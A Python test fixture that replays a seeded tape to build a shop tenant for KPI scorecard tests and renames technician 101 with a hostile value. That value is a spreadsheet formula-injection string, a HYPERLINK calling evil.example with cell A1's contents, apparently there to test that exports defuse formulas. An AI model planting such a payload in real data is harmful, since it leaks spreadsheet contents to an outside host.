"""A tenant in which every KPI has a figure: the tape of a seed, samples of one enough, and a hostile name."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from models.database import Database
from models.policy import Policy
from service.kpis.registry import KPIS
from tests.oracle.replay import Player
from tests.oracle.tapes import tape
from tests.projection.harness import webhook
from tests.scorecards.shop import Shop

SEED = 56
"""Its last moment has a value for each KPI of the team and scores for three technicians."""

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"open")'
HELD_BY = 101


@contextmanager
def open_tenancy(database: Database) -> Iterator[Shop]:
    """The tape played to its last moment; technician 101 is called a formula."""
    made = tape(SEED)
    terms = {**made.policy.get("kpis", {})}
    for kpi in KPIS:
        terms[kpi.key] = {**terms.get(kpi.key, {}), "minimum_sample": 1}
    shop = Shop(database, now=made.moments[0], policy=Policy.model_validate({**made.policy, "kpis": terms}))
    try:
        Player(shop, made.facts).play_to(made.moments[-1], all_facts=True)
        shop.tell(webhook("Resource", HELD_BY, shop.now, {"firstName": HOSTILE, "lastName": "[Ann]/Bob"}))
        yield shop
    finally:
        shop.close()


def month_of_it(shop: Shop) -> str:
    """The month in which the tape ends."""
    day = shop.card("mtd").window.first_day
    return f"{day // 10_000}-{day // 100 % 100:02}"
